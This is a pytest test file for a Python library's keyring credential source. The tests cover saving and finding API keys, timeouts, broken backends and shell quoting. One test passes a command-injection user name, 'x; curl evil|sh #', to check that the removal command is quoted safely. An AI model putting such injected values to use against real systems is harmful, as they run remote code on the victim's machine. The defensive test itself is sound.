"""The system's keyring: bounded in time, and a bundle of key, user and app."""

from __future__ import annotations

import shlex
import sys
import threading
import types

import keyring
import keyring.backend
import keyring.backends.fail
import keyring.backends.null
import keyring.core
import pytest
from support import CANARY

from clarifai_magic.credentials.bundle import Credentials, Provenance
from clarifai_magic.credentials.sources import find_credentials
from clarifai_magic.credentials.sources import keyring as keyring_source
from clarifai_magic.credentials.sources.base import SourceContext
from clarifai_magic.errors import NoCredentialsError, SourceError

ALONE = SourceContext()
PUBLIC = "https://api.clarifai.com"


class Memory(keyring.backend.KeyringBackend):
    """A keyring in memory, through keyring's own interface for backends."""

    priority = 1  # type: ignore[assignment]

    def __init__(self) -> None:
        super().__init__()
        self.kept: dict[tuple[str, str], str] = {}

    def set_password(self, service: str, username: str, password: str) -> None:
        self.kept[service, username] = password

    def get_password(self, service: str, username: str) -> str | None:
        return self.kept.get((service, username))

    def get_credential(self, service: str, username: str | None):
        for (kept_service, kept_user), password in self.kept.items():
            if kept_service == service and username in (None, kept_user):
                return keyring.credentials.SimpleCredential(kept_user, password)
        return None


@pytest.fixture
def use():
    before = keyring.get_keyring()
    yield keyring.set_keyring
    keyring.set_keyring(before)


def test_what_was_saved_is_found_with_user_and_app(use):
    use(Memory())
    words = keyring_source.save(CANARY, PUBLIC, "alice", "main")
    assert words.endswith("`keyring del https://api.clarifai.com alice/main` removes it.")
    found = find_credentials(around=ALONE).credentials
    assert found == Credentials(
        CANARY,
        user_id="alice",
        app_id="main",
        base=PUBLIC,
        source=Provenance("keyring", "alice/main"),
    )
    assert found.kept == words


def test_one_of_several_is_named(use):
    use(Memory())
    keyring_source.save("0" * 32, PUBLIC, "alice", "")
    keyring_source.save(CANARY, PUBLIC, "bob", "")
    assert find_credentials("keyring:bob", ALONE).credentials.key == CANARY
    with pytest.raises(SourceError, match="nothing saved for .* and carol"):
        find_credentials("keyring:carol", ALONE)


def test_a_key_of_another_deployment_is_not_offered(use, monkeypatch):
    use(Memory())
    keyring_source.save(CANARY, "https://private.example.com", "alice", "")
    with pytest.raises(NoCredentialsError, match="nothing saved for https://api.clarifai.com"):
        find_credentials(around=ALONE)
    monkeypatch.setenv("CLARIFAI_API_BASE", "https://private.example.com")
    assert find_credentials(around=ALONE).credentials.key == CANARY


def test_no_keyring_at_all_is_a_word_in_passing(use):
    use(keyring.backends.fail.Keyring())
    with pytest.raises(NoCredentialsError, match="the keyring: this system has no keyring"):
        find_credentials(around=ALONE)
    with pytest.raises(SourceError, match="Not saved: this system has no keyring"):
        keyring_source.save(CANARY, PUBLIC, "alice", "")


def test_a_keyring_that_waits_for_somebody_is_not_waited_for(use, monkeypatch):
    monkeypatch.setattr(keyring_source, "_PATIENCE", 0.1)
    forever = threading.Event()

    class Locked(Memory):
        def get_credential(self, service: str, username: str | None):
            forever.wait()
            return super().get_credential(service, username)

    use(Locked())
    with pytest.raises(NoCredentialsError, match="is it locked"):
        find_credentials(around=ALONE)
    forever.set()


@pytest.fixture
def configured(monkeypatch, tmp_path):
    """Load a backend of the environment again, as a process does on first use."""
    (tmp_path / "no_keyring.py").write_text(
        "import threading, keyring.backend\n"
        "def forever(*_): threading.Event().wait()\n"
        "class Blocks(keyring.backend.KeyringBackend):\n"
        "    priority = 1\n"
        "    get_password = set_password = get_credential = forever\n"
        "class BlocksAtOnce(Blocks):\n"
        "    __init__ = forever\n"
        "class Raises(Blocks):\n"
        "    def __init__(self): raise SystemExit('refused')\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.setattr(keyring_source, "_PATIENCE", 0.2)
    monkeypatch.setattr(keyring.core, "_keyring_backend", None)
    return lambda name: monkeypatch.setenv("PYTHON_KEYRING_BACKEND", name)


@pytest.mark.parametrize(
    ("backend", "reason"),
    [
        ("no.such.Backend", "its backend cannot be loaded .ModuleNotFoundError."),
        ("no_keyring.NotThere", "its backend cannot be loaded .AttributeError."),
        ("keyring", "its backend cannot be loaded"),
        ("no_keyring.Raises", "the keyring failed .SystemExit."),
        ("no_keyring.Blocks", "did not answer within"),
        ("no_keyring.BlocksAtOnce", "did not answer within"),
        ("keyring.backends.null.Keyring", "nothing saved"),
        ("keyring.backends.fail.Keyring", "no keyring"),
    ],
)
def test_a_broken_backend_is_skipped_with_its_reason_in_time(configured, backend, reason):
    configured(backend)
    with pytest.raises(NoCredentialsError, match=f"the keyring: [^;]*{reason}"):
        find_credentials(around=ALONE)
    with pytest.raises(SourceError, match="Not saved: "):
        keyring_source.save(CANARY, PUBLIC, "alice", "")


def test_what_a_keyring_takes_and_does_not_keep_is_not_said_to_be_saved(use):
    class Forgetful(Memory):
        def set_password(self, service: str, username: str, password: str) -> None:
            super().set_password(service, username, password[:8])

    for backend in (Forgetful(), keyring.backends.null.Keyring()):
        use(backend)
        with pytest.raises(SourceError, match="did not keep it"):
            keyring_source.save(CANARY, PUBLIC, "alice", "")


def test_a_base_that_is_asked_for_has_its_own_key(use, monkeypatch):
    use(Memory())
    monkeypatch.setenv("CLARIFAI_API_BASE", "ftp://unusable.example.com")
    keyring_source.save(CANARY, "https://private.example.com", "alice", "")
    around = SourceContext(base="Private.example.com:443/")
    assert find_credentials("keyring", around).credentials.base == "https://private.example.com"


def test_what_removes_the_key_is_quoted_for_the_shell(use):
    use(Memory())
    words = keyring_source.save(CANARY, PUBLIC, "x; curl evil|sh #", "")
    command = words.split("`")[1]
    assert shlex.split(command) == ["keyring", "del", PUBLIC, "x; curl evil|sh #"]


def test_a_failing_backend_is_named_by_its_error_alone(use):
    class Broken(Memory):
        def get_credential(self, service: str, username: str | None):
            raise RuntimeError(CANARY)

    use(Broken())
    with pytest.raises(NoCredentialsError, match="the keyring failed .RuntimeError."):
        find_credentials(around=ALONE)


@pytest.mark.parametrize(("user", "key"), [(b"alice", CANARY), (7, CANARY), ("alice", None)])
def test_a_backend_that_gives_no_text_is_skipped_with_its_reason(use, user, key):
    memory = Memory()
    memory.kept[PUBLIC, user] = key
    use(memory)
    with pytest.raises(NoCredentialsError, match="its backend returned something other than text"):
        find_credentials(around=ALONE)


def test_a_module_that_only_has_the_name_is_skipped_with_its_reason(monkeypatch):
    monkeypatch.setitem(sys.modules, "keyring", types.ModuleType("keyring"))
    with pytest.raises(NoCredentialsError, match="its backend cannot be loaded"):
        find_credentials(around=ALONE)
